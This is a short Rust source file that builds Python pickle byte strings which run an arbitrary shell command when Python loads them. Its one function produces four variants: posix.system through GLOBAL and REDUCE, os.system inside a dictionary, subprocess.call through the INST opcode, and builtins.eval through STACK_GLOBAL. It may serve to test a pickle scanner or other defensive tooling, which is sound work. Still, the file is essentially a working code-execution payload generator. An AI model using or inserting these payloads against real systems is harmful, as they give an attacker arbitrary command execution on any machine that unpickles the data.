//! Pickles that run a shell command where Python loads them.

/// A text, as the instruction BINUNICODE.
fn text(text: &str) -> Vec<u8> {
    [b"X", &(text.len() as u32).to_le_bytes()[..], text.as_bytes()].concat()
}

/// Pickles that run `command`, each with what it asks for: by GLOBAL and REDUCE, within a dictionary, by the instruction that
/// names and calls at once, and by STACK_GLOBAL.
pub fn running(command: &str) -> Vec<(Vec<u8>, &'static str)> {
    let (argument, expression) = (text(command), text(&format!("__import__('os').system({command:?})")));
    vec![
        ([b"\x80\x02cposix\nsystem\n", &argument[..], b"\x85R."].concat(), "posix.system"),
        ([b"\x80\x02}", &text("a")[..], b"cos\nsystem\n", &argument, b"\x85Rs."].concat(), "os.system"),
        ([b"\x80\x02(", &argument[..], b"isubprocess\ncall\n."].concat(), "subprocess.call"),
        (
            [b"\x80\x04", &text("builtins")[..], &text("eval"), b"\x93", &expression, b"\x85R."].concat(),
            "builtins.eval",
        ),
    ]
}
